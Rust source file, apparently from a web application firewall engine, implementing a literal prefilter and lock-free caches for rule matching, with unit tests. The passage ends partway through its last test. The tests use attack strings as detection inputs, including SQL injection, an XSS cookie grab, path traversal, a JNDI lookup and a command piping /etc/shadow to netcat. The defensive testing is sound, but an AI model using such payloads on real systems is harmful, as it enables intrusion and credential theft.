//! The rule set's prefilter — one automaton over the required literals of every link, whose
//! hits on a value tell which links may match it — and what is remembered of request-head
//! values across transactions: their hits and the operators that did not match them
//! (`KnownHits`), and the misses of costly operators on head values without a state
//! (`KnownMisses`).

use std::sync::atomic::{AtomicU64, Ordering, fence};

/// The prefilter of the whole rule set: every link whose operator has required literals owns
/// a slot; an input's hits are the slots whose literals occur in it.
///
/// One automaton for all links (rather than one per transformation chain) because most
/// values come out of most chains unchanged but for case, and literals match ASCII
/// case-insensitively: then one scan of the raw value answers for every chain.
#[derive(Debug)]
pub(crate) struct Prefilter {
    /// The literals of two bytes or more, walked byte by byte (`hits`): the overlapping
    /// iterator's per-match bookkeeping cost more than the walk itself on short values full
    /// of short literals.
    dfa: aho_corasick::dfa::DFA,
    /// Pattern index of `dfa` → slot (rule link) it belongs to.
    slot_of: Vec<u32>,
    slots: usize,
    /// The slots of each match state, as a few word masks (see `MatchTable`).
    by_state: Option<MatchTable>,
    /// The one-byte literals, out of the automaton (see `ByteTable`).
    by_byte: ByteTable,
    /// The length of the automaton's longest literal (at least 1).
    longest: usize,
    /// Hits of request-head values, for every transaction (see `KnownHits`).
    known: KnownHits,
}

/// What is known of request-head values (headers, cookies, the request line, and the states
/// transformations make of them) across transactions: their prefilter hits, and the
/// operators that did not match them. Browsers send the same User-Agent, Accept and
/// Accept-Language with every request; the walk of the prefilter's automaton (megabytes,
/// visited at random) costs more in cache misses than any other step of a clean request, and
/// the rules without literals (path traversal, command injection, libinjection) would run
/// on every one of them. Values are known by their fingerprint (SipHash under a key drawn
/// when the rule set is built: no one can make a value pass for another), computed once per
/// state (`TCache::print`). A direct-mapped table, each entry overwritten by the next value
/// that maps to it; no lock: an entry is a sequence number, the fingerprint, the hits and a
/// bit per operator (`RuleOperator::memo`) that did not match; a read that met a write in
/// progress (odd number, or changed while read) is a miss, and a writer that finds the entry
/// being written gives up.
pub(crate) struct KnownHits {
    key: std::hash::RandomState,
    /// Words of hits per entry.
    words: usize,
    /// Words of operator bits per entry.
    misses: usize,
    /// Entries of `HEAD + words + misses` words each.
    table: Box<[AtomicU64]>,
}

/// Words of an entry before its hits: the sequence number, the fingerprint, and 1 when the
/// hits are there (an entry made by `note_miss` has only bits).
const HEAD: usize = 3;

/// Operators with a bit in `KnownHits` at most (CRS v4: about 600).
const MAX_MEMOS: u32 = 2048;

/// Entries of `KnownHits` (CRS: about 140 bytes each). A request head makes some fifty
/// states; with this many entries two of them rarely share one (they would take it from each
/// other on every request).
const KNOWN_HITS: usize = 8192;

/// Values longer than this are not kept in `KnownHits`.
pub(crate) const KNOWN_HITS_MAX: usize = 1024;

impl std::fmt::Debug for KnownHits {
    fn fmt(&self, f: &mut std::fmt::Formatter) -> std::fmt::Result {
        f.debug_struct("KnownHits")
            .field("words", &self.words)
            .finish_non_exhaustive()
    }
}

impl KnownHits {
    fn new(slots: usize, memos: u32) -> KnownHits {
        let words = slots.div_ceil(64);
        let misses = (memos as usize).div_ceil(64);
        KnownHits {
            key: std::hash::RandomState::new(),
            words,
            misses,
            table: (0..KNOWN_HITS * (HEAD + words + misses))
                .map(|_| Default::default())
                .collect(),
        }
    }

    /// A value's fingerprint; never 0 (an empty entry).
    pub fn fingerprint(&self, value: &[u8]) -> u64 {
        use std::hash::BuildHasher;
        self.key.hash_one(value) | 1
    }

    fn entry(&self, fingerprint: u64) -> &[AtomicU64] {
        let stride = HEAD + self.words + self.misses;
        let at = (fingerprint >> 1) as usize % KNOWN_HITS * stride;
        &self.table[at..at + stride]
    }

    /// Reads the entry of `fingerprint` by `read`, when the entry is that value's and no
    /// write met the read.
    fn read<R>(&self, fingerprint: u64, read: impl FnOnce(&[AtomicU64]) -> R) -> Option<R> {
        let e = self.entry(fingerprint);
        let seq = e[0].load(Ordering::Acquire);
        if seq & 1 == 1 || e[1].load(Ordering::Relaxed) != fingerprint {
            return None;
        }
        let r = read(e);
        fence(Ordering::Acquire);
        (e[0].load(Ordering::Relaxed) == seq).then_some(r)
    }

    /// Writes the entry of `fingerprint` by `write`, making it that value's (another value's
    /// hits and bits are forgotten), its sequence number held odd meanwhile; gives up when
    /// another thread holds it.
    fn write(&self, fingerprint: u64, write: impl FnOnce(&[AtomicU64])) {
        let e = self.entry(fingerprint);
        let seq = e[0].load(Ordering::Relaxed);
        if seq & 1 == 1
            || e[0]
                .compare_exchange(seq, seq + 1, Ordering::Acquire, Ordering::Relaxed)
                .is_err()
        {
            return;
        }
        fence(Ordering::Release);
        if e[1].load(Ordering::Relaxed) != fingerprint {
            e[1].store(fingerprint, Ordering::Relaxed);
            e[2].store(0, Ordering::Relaxed);
            for m in &e[HEAD + self.words..] {
                m.store(0, Ordering::Relaxed);
            }
        }
        write(e);
        e[0].store(seq + 2, Ordering::Release);
    }

    /// The hits kept for a fingerprint, when they are there and were not being written.
    fn get(&self, fingerprint: u64, slots: usize) -> Option<Hits> {
        self.read(fingerprint, |e| {
            (e[2].load(Ordering::Relaxed) == 1).then(|| {
                let mut hits = Hits::empty(slots);
                for (w, kept) in hits.words_mut().iter_mut().zip(&e[HEAD..]) {
                    *w = kept.load(Ordering::Relaxed);
                }
                hits
            })
        })
        .flatten()
    }

    /// Keeps the hits of a fingerprint (unless another thread is writing the entry).
    fn put(&self, fingerprint: u64, hits: &Hits) {
        self.write(fingerprint, |e| {
            for (kept, w) in e[HEAD..HEAD + self.words].iter().zip(hits.words()) {
                kept.store(*w, Ordering::Relaxed);
            }
            e[2].store(1, Ordering::Relaxed);
        });
    }

    /// The word and bit of operator bit `memo` in an entry, when the table has them.
    fn bit(&self, memo: u32) -> Option<(usize, u64)> {
        let word = memo as usize / 64;
        (word < self.misses).then(|| (HEAD + self.words + word, 1 << (memo % 64)))
    }

    /// Whether the operator with bit `memo` is known not to match the value.
    pub fn missed(&self, fingerprint: u64, memo: u32) -> bool {
        let Some((at, bit)) = self.bit(memo) else {
            return false;
        };
        self.read(fingerprint, |e| e[at].load(Ordering::Relaxed) & bit != 0)
            .unwrap_or(false)
    }

    /// Notes that the operator with bit `memo` did not match the value (unless another
    /// thread is writing its entry).
    pub fn note_miss(&self, fingerprint: u64, memo: u32) {
        if let Some((at, bit)) = self.bit(memo) {
            self.write(fingerprint, |e| {
                e[at].fetch_or(bit, Ordering::Relaxed);
            });
        }
    }
}

/// The slots every match state of the prefilter's DFA reports, made when the rule set is
/// built: a state's patterns (often several, of one or a few links) become one `or` per
/// 64 slots, instead of a pattern and a slot lookup each in the walk.
#[derive(Debug)]
struct MatchTable {
    /// State ids are multiples of 2^shift (the DFA's stride): `id >> shift` indexes `ranges`.
    shift: u32,
    /// Per state: its range of `masks` (empty for a state that matches nothing; `UNSEEN`
    /// for an id the walk did not meet).
    ranges: Vec<(u32, u32)>,
    /// (word of the hits, bits of it).
    masks: Vec<(u32, u64)>,
}

impl MatchTable {
    /// Walks every state reachable from the start (`patterns`: the bytes they hold, one
    /// representative for all others, which lead where any other does); `None` when the
    /// state ids do not make a dense table (then the walk looks patterns up as it goes).
    fn new(dfa: &aho_corasick::dfa::DFA, patterns: &[Vec<u8>], slot_of: &[u32]) -> Option<Self> {
        use aho_corasick::Anchored;
        use aho_corasick::automaton::Automaton;
        let mut seen = [false; 256];
        for b in patterns.iter().flatten() {
            seen[usize::from(b.to_ascii_lowercase())] = true;
            seen[usize::from(b.to_ascii_uppercase())] = true;
        }
        let mut bytes: Vec<u8> = (0..=255u8).filter(|&b| seen[usize::from(b)]).collect();
        bytes.extend((0..=255u8).find(|&b| !seen[usize::from(b)]));
        let start = dfa.start_state(Anchored::No).ok()?;
        let mut states = std::collections::HashSet::from([start]);
        let mut todo = vec![start];
        while let Some(sid) = todo.pop() {
            for &b in &bytes {
                let next = dfa.next_state(Anchored::No, sid, b);
                if states.insert(next) {
                    todo.push(next);
                }
            }
        }
        let gcd = states
            .iter()
            .fold(0usize, |g, s| num_gcd(g, s.as_usize()))
            .max(1);
        let shift = gcd.trailing_zeros();
        let max = states.iter().map(|s| s.as_usize() >> shift).max()?;
        if max > 4 * states.len() + 16 {
            return None;
        }
        let mut ranges = vec![(UNSEEN, 0); max + 1];
        let mut masks: Vec<(u32, u64)> = Vec::new();
        for &sid in &states {
            let from = masks.len();
            if !dfa.is_match(sid) {
                ranges[sid.as_usize() >> shift] = (from as u32, from as u32);
                continue;
            }
            for i in 0..dfa.match_len(sid) {
                let s = slot_of[dfa.match_pattern(sid, i).as_usize()];
                add_mask(&mut masks, from, s / 64, 1 << (s % 64));
            }
            ranges[sid.as_usize() >> shift] = (from as u32, masks.len() as u32);
        }
        Some(MatchTable {
            shift,
            ranges,
            masks,
        })
    }
}

/// The slots of the one-byte literals (digits, separators, the byte sets of
/// `MAX_SLOT_BYTES`), by byte. In the automaton they made almost every state a match state —
/// every digit and `%` of `%E5%85%B3…` — each match an `or` of masks read from tables as
/// large as the automaton. The walk now only `or`s each byte's class bit into a word (bytes
/// with the same slots share a class), and the classes' masks are added once at the end.
#[derive(Debug, Clone)]
struct ByteTable {
    /// Per byte: the bit of its class, 0 for a byte without slots.
    class: [u64; 256],
    /// Per class: its range of `masks`.
    ranges: Vec<(u32, u32)>,
    /// (word of the hits, bits of it).
    masks: Vec<(u32, u64)>,
}

impl ByteTable {
    /// The table of `(byte, slot)` pairs; a letter also stands for its other case. Beyond 64
    /// classes, the last one also holds the rest: a byte of those then gives the slots of
    /// all of them, more than its own, which costs an operator's look but misses nothing.
    fn new(pairs: impl IntoIterator<Item = (u8, u32)>) -> ByteTable {
        let mut by_byte: Vec<Vec<(u32, u64)>> = vec![Vec::new(); 256];
        for (b, slot) in pairs {
            for b in [b.to_ascii_lowercase(), b.to_ascii_uppercase()] {
                add_mask(&mut by_byte[usize::from(b)], 0, slot / 64, 1 << (slot % 64));
            }
        }
        let mut classes: Vec<Vec<(u32, u64)>> = Vec::new();
        let mut class = [0u64; 256];
        for (b, mut list) in by_byte.into_iter().enumerate() {
            if list.is_empty() {
                continue;
            }
            list.sort_unstable();
            let c = match classes.iter().position(|c| *c == list) {
                Some(c) => c,
                None if classes.len() < 64 => {
                    classes.push(list);
                    classes.len() - 1
                }
                None => {
                    let last = classes.last_mut().expect("64 classes");
                    for (w, mask) in list {
                        add_mask(last, 0, w, mask);
                    }
                    63
                }
            };
            class[b] = 1 << c;
        }
        let mut table = ByteTable {
            class,
            ranges: Vec::new(),
            masks: Vec::new(),
        };
        for list in classes {
            let from = table.masks.len() as u32;
            table.masks.extend(list);
            table.ranges.push((from, table.masks.len() as u32));
        }
        table
    }

    /// Adds the slots of the classes in `seen` to `words`.
    fn add(&self, mut seen: u64, words: &mut [u64]) {
        while seen != 0 {
            let (from, to) = self.ranges[seen.trailing_zeros() as usize];
            seen &= seen - 1;
            or_masks(&self.masks[from as usize..to as usize], words);
        }
    }
}

/// Values of at least this many bytes are walked as two halves at once (see `hits`).
const SPLIT_WALK: usize = 64;

/// Adds `mask` to word `w` of a list of (word, bits) pairs, the list being `list[from..]`
/// (the table's lists share one `Vec`).
fn add_mask(list: &mut Vec<(u32, u64)>, from: usize, w: u32, mask: u64) {
    match list[from..].iter_mut().find(|(word, _)| *word == w) {
        Some((_, m)) => *m |= mask,
        None => list.push((w, mask)),
    }
}

/// Ors a list of (word, bits) pairs into the words of some hits.
#[inline]
fn or_masks(masks: &[(u32, u64)], words: &mut [u64]) {
    for &(w, mask) in masks {
        words[w as usize] |= mask;
    }
}

/// `MatchTable::ranges` of an id that is no state the walk met.
const UNSEEN: u32 = u32::MAX;

fn num_gcd(a: usize, b: usize) -> usize {
    if b == 0 { a } else { num_gcd(b, a % b) }
}

impl Prefilter {
    /// The slots whose literals occur in `value`.
    pub fn hits(&self, value: &[u8]) -> Hits {
        use aho_corasick::Anchored;
        use aho_corasick::automaton::Automaton;
        let mut hits = Hits::empty(self.slots);
        let words = hits.words_mut();
        let dfa = &self.dfa;
        let Ok(start) = dfa.start_state(Anchored::No) else {
            // Cannot happen (the DFA is built unanchored); every slot then passes.
            words.fill(u64::MAX);
            return hits;
        };
        let mut seen = 0u64;
        // Each step of a walk waits for the load of the one before (from tables of
        // megabytes): a long value is walked as two halves at once, whose loads overlap. The
        // second half starts `longest - 1` bytes early, so that it meets every literal that
        // ends in it from its first byte; literals that end in the first half are the first
        // walk's.
        let (first, second) = if value.len() >= SPLIT_WALK {
            let mid = value.len() / 2;
            (&value[..mid], &value[mid - (self.longest - 1).min(mid)..])
        } else {
            (value, &[][..])
        };
        let (mut a, mut b) = (start, start);
        // The second is at least as long as the first.
        let (lead, rest) = second.split_at(second.len().min(first.len()));
        for (&x, &y) in first.iter().zip(lead) {
            seen |= self.by_byte.class[usize::from(x)] | self.by_byte.class[usize::from(y)];
            a = dfa.next_state(Anchored::No, a, x);
            b = dfa.next_state(Anchored::No, b, y);
            if dfa.is_special(a) {
                self.add_state(a, words);
            }
            if dfa.is_special(b) {
                self.add_state(b, words);
            }
        }
        // What is left: the whole value when it was not split, or the second half's rest.
        let (mut sid, tail) = if second.is_empty() {
            (a, first)
        } else {
            (b, rest)
        };
        for &x in tail {
            seen |= self.by_byte.class[usize::from(x)];
            sid = dfa.next_state(Anchored::No, sid, x);
            if dfa.is_special(sid) {
                self.add_state(sid, words);
            }
        }
        self.by_byte.add(seen, words);
        hits
    }

    /// Adds the slots of a special state of the automaton to `words` (only match states have
    /// any).
    #[inline]
    fn add_state(&self, sid: aho_corasick::automaton::StateID, words: &mut [u64]) {
        use aho_corasick::automaton::Automaton;
        let dfa = &self.dfa;
        if !dfa.is_match(sid) {
            return;
        }
        let known = self.by_state.as_ref().and_then(|table| {
            let &(from, to) = table.ranges.get(sid.as_usize() >> table.shift)?;
            (from != UNSEEN).then(|| &table.masks[from as usize..to as usize])
        });
        match known {
            Some(masks) => or_masks(masks, words),
            // A state the table does not list (cannot happen: every reachable state is
            // walked): its patterns, one by one.
            None => {
                for i in 0..dfa.match_len(sid) {
                    let s = self.slot_of[dfa.match_pattern(sid, i).as_usize()] as usize;
                    words[s / 64] |= 1 << (s % 64);
                }
            }
        }
    }

    /// The hits of a request-head value of at most [`KNOWN_HITS_MAX`] bytes, whose
    /// fingerprint (`KnownHits::fingerprint`) is `fingerprint`: kept across transactions.
    pub fn head_hits(&self, value: &[u8], fingerprint: u64) -> Hits {
        if let Some(hits) = self.known.get(fingerprint, self.slots) {
            return hits;
        }
        let hits = self.hits(value);
        self.known.put(fingerprint, &hits);
        hits
    }

    /// What is known of request-head values across transactions.
    pub fn known(&self) -> &KnownHits {
        &self.known
    }

    pub fn slots(&self) -> usize {
        self.slots
    }
}

/// Slots up to this many are kept inline (CRS v4 has about 260).
const INLINE_SLOTS: usize = 512;

/// A bitset of prefilter slots; up to [`INLINE_SLOTS`] without allocation.
#[derive(Debug, Clone)]
pub(crate) enum Hits {
    Small([u64; INLINE_SLOTS / 64]),
    Large(Box<[u64]>),
}

impl Hits {
    pub fn empty(slots: usize) -> Hits {
        if slots > INLINE_SLOTS {
            Hits::Large(vec![0u64; slots.div_ceil(64)].into_boxed_slice())
        } else {
            Hits::Small([0; INLINE_SLOTS / 64])
        }
    }

    fn words(&self) -> &[u64] {
        match self {
            Hits::Small(w) => w,
            Hits::Large(w) => w,
        }
    }

    fn words_mut(&mut self) -> &mut [u64] {
        match self {
            Hits::Small(w) => w,
            Hits::Large(w) => w,
        }
    }

    /// Adds `other`'s slots to these (both come from the same rule set, so have one size).
    pub fn union(&mut self, other: &Hits) {
        for (x, y) in self.words_mut().iter_mut().zip(other.words()) {
            *x |= y;
        }
    }

    pub fn contains(&self, slot: u32) -> bool {
        let s = slot as usize;
        self.words()
            .get(s / 64)
            .is_some_and(|w| w & (1 << (s % 64)) != 0)
    }
}

/// Literals are cut to this many bytes for the rule set's prefilter (see `assign_slots`):
/// CRS's ~11,000 literals make a DFA of ~84 MB whole, ~8 MB cut to 8 bytes and ~4.5 MB cut to
/// 6. At 6 a CRS rule set takes 3.6 MB less than at 8 for the same instructions and time per
/// request (measured on the benchmark's five requests); at 4 (2.5 MB) more links pass the
/// filter for nothing and a clean GET is slower.
const PREFIX_BYTES: usize = 6;

/// The prefilter being built: patterns, the slot of each pattern, number of slots.
#[derive(Default)]
pub(super) struct RawPrefilter {
    patterns: Vec<Vec<u8>>,
    slot_of: Vec<u32>,
    slots: usize,
}

/// A link whose operator has no literals but a byte set (`RuleOperator::bytes`) of at most
/// this many bytes gets a slot too, each byte a one-byte literal: then the unions tell
/// whether any value holds one of them, and the link is skipped without a look at a value
/// (CRS's command-injection rules, whose byte sets are command separators).
pub(crate) const MAX_SLOT_BYTES: usize = 16;

/// Gives each link whose operator depends on its input alone a bit in `KnownHits`.
pub(super) fn assign_memos(rule: &mut crate::rule::Rule, memos: &mut u32) {
    let mut link = Some(rule);
    while let Some(r) = link {
        if let Some(op) = &mut r.operator
            && matches!(op.op.depends_on(), Some(None))
            && *memos < MAX_MEMOS
        {
            op.memo = *memos;
            *memos += 1;
        }
        link = r.chain.as_deref_mut();
    }
}

pub(super) fn assign_slots(rule: &mut crate::rule::Rule, raw: &mut RawPrefilter) {
    let mut link = Some(rule);
    while let Some(r) = link {
        let bytes: Vec<Vec<u8>> = match r.operator.as_ref().and_then(|op| op.bytes.as_ref()) {
            Some(set) if set.bytes().count() <= MAX_SLOT_BYTES => {
                set.bytes().map(|b| vec![b]).collect()
            }
            _ => Vec::new(),
        };
        if let Some(op) = &r.operator
            && (!op.literals.is_empty() || !bytes.is_empty())
        {
            let slot = raw.slots as u32;
            raw.slots += 1;
            // A value holding a literal holds each of its prefixes: cut to a few bytes, the
            // literals share prefixes, which keeps the automaton small enough to be a DFA.
            let mut cut: Vec<&[u8]> = op
                .literals
                .iter()
                .chain(&bytes)
                .map(|l| &l[..l.len().min(PREFIX_BYTES)])
                .collect();
            cut.sort_unstable_by_key(|l| l.to_ascii_lowercase());
            cut.dedup_by(|a, b| a.eq_ignore_ascii_case(b));
            for l in cut {
                raw.patterns.push(l.to_vec());
                raw.slot_of.push(slot);
            }
            r.slot = Some(slot);
        }
        link = r.chain.as_deref_mut();
    }
}

impl RawPrefilter {
    /// Whether no link has a slot.
    pub(super) fn is_empty(&self) -> bool {
        self.slots == 0
    }

    /// The prefilter of these patterns, with a `KnownHits` of `memos` operator bits; `None`
    /// when its automaton would be too large.
    pub(super) fn build(self, memos: u32) -> Option<Prefilter> {
        let (single, longer): (Vec<_>, Vec<_>) = self
            .patterns
            .into_iter()
            .zip(self.slot_of)
            .partition(|(p, _)| p.len() == 1);
        let (patterns, slot_of): (Vec<Vec<u8>>, Vec<u32>) = longer.into_iter().unzip();
        let dfa = aho_corasick::dfa::Builder::new()
            .ascii_case_insensitive(true)
            .match_kind(aho_corasick::MatchKind::Standard)
            .start_kind(aho_corasick::StartKind::Unanchored)
            .build(&patterns)
            .ok()?;
        Some(Prefilter {
            longest: patterns.iter().map(Vec::len).max().unwrap_or(1),
            by_state: MatchTable::new(&dfa, &patterns, &slot_of),
            by_byte: ByteTable::new(single.into_iter().map(|(p, slot)| (p[0], slot))),
            known: KnownHits::new(self.slots, memos),
            dfa,
            slot_of,
            slots: self.slots,
        })
    }
}

/// Inputs from request heads (headers, cookies, the request line) that costly operators
/// (`Operator::memoize_misses`: libinjection) did not match, remembered across transactions:
/// browsers send the same User-Agent, Accept and cookie names with every request, and
/// `@detectSQLi` on a User-Agent costs more than the rest of its header's rules together.
///
/// A direct-mapped table of fingerprints — SipHash of (operator, input) under a key drawn
/// when the rule set is built, so no one can make an input pass for one seen clean — each
/// slot overwritten by the next input that maps to it: bounded memory, no lock. Body values
/// are not kept (they rarely repeat from request to request; the transaction's own memo
/// serves them).
pub(crate) struct KnownMisses {
    key: std::hash::RandomState,
    table: Box<[std::sync::atomic::AtomicU64]>,
}

/// Slots of `KnownMisses` (8 bytes each).
const KNOWN_MISSES: usize = 4096;

impl Default for KnownMisses {
    fn default() -> KnownMisses {
        KnownMisses {
            key: std::hash::RandomState::new(),
            table: (0..KNOWN_MISSES).map(|_| Default::default()).collect(),
        }
    }
}

impl std::fmt::Debug for KnownMisses {
    fn fmt(&self, f: &mut std::fmt::Formatter) -> std::fmt::Result {
        f.debug_struct("KnownMisses")
            .field("slots", &self.table.len())
            .finish_non_exhaustive()
    }
}

impl KnownMisses {
    /// The fingerprint of an operator (by address) and an input; never 0 (an empty slot).
    pub fn fingerprint(&self, op: usize, input: &[u8]) -> u64 {
        use std::hash::BuildHasher;
        self.key.hash_one((op, input)) | 1
    }

    fn slot(&self, fingerprint: u64) -> &std::sync::atomic::AtomicU64 {
        &self.table[(fingerprint >> 1) as usize % self.table.len()]
    }

    pub fn contains(&self, fingerprint: u64) -> bool {
        self.slot(fingerprint)
            .load(std::sync::atomic::Ordering::Relaxed)
            == fingerprint
    }

    pub fn insert(&self, fingerprint: u64) {
        self.slot(fingerprint)
            .store(fingerprint, std::sync::atomic::Ordering::Relaxed);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::engine::Engine;
    use crate::rule::Entry;

    /// The rule that stops, in phase 1, a GET with this User-Agent, if any.
    fn stopped_by_user_agent(engine: &Engine, ua: &str) -> Option<u32> {
        let mut tx = engine.transaction();
        tx.process_uri(b"GET", b"/", b"HTTP/1.1");
        tx.add_request_header(b"User-Agent", ua.as_bytes());
        tx.process_request_headers().map(|i| i.rule_id)
    }

    #[test]
    fn known_misses_are_per_operator_and_overwritten() {
        let known = KnownMisses::default();
        let a = known.fingerprint(1, b"Mozilla/5.0");
        assert_ne!(a, known.fingerprint(2, b"Mozilla/5.0"));
        assert_ne!(a, known.fingerprint(1, b"Mozilla/5.1"));
        assert!(!known.contains(a));
        known.insert(a);
        assert!(known.contains(a));
        // Another fingerprint for the same slot takes it.
        let b = a ^ (1 << 60);
        known.insert(b);
        assert!(known.contains(b) && !known.contains(a));
    }

    #[test]
    fn match_table_gives_the_pattern_walks_hits() {
        let engine = Engine::builtin();
        let p = engine.rules().prefilter.as_ref().unwrap();
        assert!(p.by_state.is_some());
        let plain = Prefilter {
            dfa: p.dfa.clone(),
            slot_of: p.slot_of.clone(),
            slots: p.slots,
            by_state: None,
            by_byte: p.by_byte.clone(),
            longest: p.longest,
            known: KnownHits::new(p.slots, 0),
        };
        let inputs = [
            &b""[..],
            b"/news/2026/11/index.html",
            b"1' UNION SELECT password FROM users--",
            b"<script>alert(document.cookie)</script>",
            b"../../etc/passwd",
            b";cat /etc/shadow | nc 10.0.0.1 80",
            b"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36",
            "\u{7b2c}1\u{53f7}\u{901a}\u{77e5}".as_bytes(),
            b"\\x00\\xff%00%u0027 OR 1=1 # <svg onload=x> javascript:eval(1)",
        ];
        let mut found = 0;
        for input in inputs {
            let (a, b) = (p.hits(input), plain.hits(input));
            assert_eq!(a.words(), b.words(), "{:?}", String::from_utf8_lossy(input));
            found += a.words().iter().map(|w| w.count_ones()).sum::<u32>();
        }
        assert!(found > 10, "the inputs hit some slots: {found}");
    }

    #[test]
    fn hits_are_the_slots_whose_literals_occur_in_the_value() {
        // Literals of one to six bytes (one-byte ones go to the byte table, the others to
        // the automaton), several per slot, letters in either case; checked against a
        // search for each literal, ASCII case aside.
        let mut random = crate::xorshift(0x9e37_79b9_7f4a_7c15);
        let mut next = move |n: usize| (random() % n as u64) as usize;
        const ALPHABET: &[u8] = b"aAbB%5e\xE5\x80/ .";
        let mut raw = RawPrefilter::default();
        for slot in 0..150u32 {
            for _ in 0..1 + next(3) {
                let one = next(3) == 0;
                let len = 1 + next(if one { 1 } else { 6 });
                raw.patterns
                    .push((0..len).map(|_| ALPHABET[next(ALPHABET.len())]).collect());
                raw.slot_of.push(slot);
            }
        }
        raw.slots = 150;
        let literals: Vec<(Vec<u8>, u32)> = raw
            .patterns
            .iter()
            .cloned()
            .zip(raw.slot_of.iter().copied())
            .collect();
        let p = raw.build(0).unwrap();
        assert!(p.by_byte.masks.len() > 10, "one-byte literals in the table");
        let mut hit = 0;
        for _ in 0..3000 {
            // Some long enough to be walked in two halves (`SPLIT_WALK`).
            let long = next(4) == 0;
            let value: Vec<u8> = (0..next(if long { 200 } else { 24 }))
                .map(|_| ALPHABET[next(ALPHABET.len())])
                .collect();
            let mut want = Hits::empty(p.slots);
            let lower = value.to_ascii_lowercase();
            for (l, slot) in &literals {
                let l = l.to_ascii_lowercase();
                if lower.windows(l.len()).any(|w| w == l.as_slice()) {
                    want.words_mut()[*slot as usize / 64] |= 1 << (slot % 64);
                }
            }
            let got = p.hits(&value);
            assert_eq!(
                got.words(),
                want.words(),
                "{:?}",
                String::from_utf8_lossy(&value)
            );
            hit += got.words().iter().map(|w| w.count_ones()).sum::<u32>();
        }
        assert!(hit > 3000, "the values hit slots: {hit}");
    }

    #[test]
    fn a_byte_beyond_64_classes_still_gives_its_slots() {
        // 200 bytes, each with a slot of its own: 200 classes would be needed.
        let table = ByteTable::new((0..200u8).map(|b| (b, u32::from(b))));
        for b in 0..=255u8 {
            let mut words = [0u64; 4];
            table.add(table.class[usize::from(b)], &mut words);
            for own in [b.to_ascii_lowercase(), b.to_ascii_uppercase()] {
                if own < 200 {
                    assert!(words[usize::from(own / 64)] & 1 << (own % 64) != 0, "{b}");
                }
            }
        }
        // Bytes in the first 64 classes give exactly their own slots.
        let mut words = [0u64; 4];
        table.add(table.class[usize::from(b'0')], &mut words);
        assert_eq!(words, [1 << b'0', 0, 0, 0]);
        assert_eq!(table.class[250], 0, "a byte without slots has no class");
    }

    #[test]
    fn known_hits_give_what_the_walk_gives() {
        let engine = Engine::builtin();
        let p = engine.rules().prefilter.as_ref().unwrap();
        let inputs = [
            &b"Mozilla/5.0 (Windows NT 10.0; Win64; x64)"[..],
            b"../../etc/passwd",
            b"text/html,application/xhtml+xml",
            b"${jndi:ldap://x}",
        ];
        for _ in 0..2 {
            for input in inputs {
                assert_eq!(
                    p.head_hits(input, p.known.fingerprint(input)).words(),
                    p.hits(input).words(),
                    "{:?}",
                    String::from_utf8_lossy(input)
                );
            }
        }
        // Kept: the second round found every input in the table (unless two share an
        // entry, which these do not).
        for input in inputs {
            let print = p.known.fingerprint(input);
            let kept = p.known.get(print, p.slots).expect("kept");
            assert_eq!(kept.words(), p.hits(input).words());
        }
        // Another value for the same entry takes it; a fingerprint not there is a miss.
        let a = p.known.fingerprint(inputs[0]);
        let b = a ^ (1 << 62);
        assert!(p.known.get(b, p.slots).is_none());
        p.known.put(b, &p.hits(b"<script>"));
        assert!(p.known.get(a, p.slots).is_none());
        assert_eq!(
            p.known.get(b, p.slots).map(|h| h.words().to_vec()),
            Some(p.hits(b"<script>").words().to_vec())
        );
    }

    #[test]
    fn known_hits_keep_the_operators_a_value_missed() {
        let engine = Engine::builtin();
        let known = &engine.rules().prefilter.as_ref().unwrap().known;
        assert!(
            known.misses > 0,
            "the built-in pack has operators with bits"
        );
        let last = (known.misses * 64 - 1) as u32;
        let a = known.fingerprint(b"Mozilla/5.0");
        // A bit makes the value's entry, without hits.
        known.note_miss(a, 3);
        assert!(known.missed(a, 3));
        assert!(known.get(a, 64).is_none());
        // Hits join the bits, and bits the hits.
        let mut hits = Hits::empty(64);
        hits.words_mut()[0] = 0b1010;
        known.put(a, &hits);
        known.note_miss(a, last);
        assert!(known.missed(a, 3) && known.missed(a, last));
        assert!(!known.missed(a, 4));
        assert_eq!(known.get(a, 64).map(|h| h.words()[0]), Some(0b1010));
        // Another value taking the entry starts with no bits and no hits.
        let b = a ^ (1 << 62);
        known.note_miss(b, 5);
        assert!(known.missed(b, 5) && !known.missed(b, 3) && !known.missed(a, 3));
        assert!(known.get(b, 64).is_none() && known.get(a, 64).is_none());
        // A bit beyond the table's is never set.
        known.note_miss(b, last + 1);
        assert!(!known.missed(b, last + 1));
    }

    #[test]
    fn known_hits_never_give_one_value_another_ones_bits() {
        // Two values sharing an entry, written and read from several threads at once.
        let engine = Engine::builtin();
        let known = &engine.rules().prefilter.as_ref().unwrap().known;
        let a = known.fingerprint(b"a");
        let b = a ^ (1 << 62);
        let wrong = std::sync::atomic::AtomicUsize::new(0);
        std::thread::scope(|s| {
            for (me, other, bit) in [(a, b, 1), (b, a, 2)] {
                let wrong = &wrong;
                s.spawn(move || {
                    for i in 0..20_000 {
                        if i % 3 == 0 {
                            known.put(me, &Hits::empty(64));
                        }
                        known.note_miss(me, bit);
                        // The other value's bit, seen on this one: never.
                        if known.missed(me, 3 - bit) || known.missed(other, bit) {
                            wrong.fetch_add(1, Ordering::Relaxed);
                        }
                    }
                });
            }
        });
        assert_eq!(wrong.load(Ordering::Relaxed), 0);
    }

    #[test]
    fn request_head_values_operators_missed_are_not_evaluated_again() {
        // A pattern without literals on the User-Agent (every value is tested), and one with
        // literals so that the rule set has a prefilter.
        let engine = Engine::from_text(
            "SecRuleEngine On\n\
             SecRule REQUEST_HEADERS:User-Agent \"@rx ^[a-z]+[0-9]{3}$\" \"id:1,phase:1,deny,status:403,t:lowercase\"\n\
             SecRule ARGS \"@rx evil\" \"id:2,phase:1,deny,status:403\"",
            "t.conf",
        )
        .unwrap();
        let run = |ua: &str| stopped_by_user_agent(&engine, ua);
        let rules = engine.rules();
        let known = &rules.prefilter.as_ref().unwrap().known;
        let Entry::Rule(rule) = &rules.phases[0][0] else {
            panic!("rule 1 first")
        };
        let memo = rule.operator.as_ref().unwrap().memo;
        assert_ne!(memo, crate::rule::NO_MEMO);
        let clean = "Mozilla/5.0 (X11; Linux x86_64)";
        assert_eq!(run(clean), None);
        // The lowercased state was tested: its miss is kept.
        let print = known.fingerprint(clean.to_ascii_lowercase().as_bytes());
        assert!(known.missed(print, memo));
        assert_eq!(run(clean), None);
        // A match is never kept: the same attack is stopped every time.
        for _ in 0..2 {
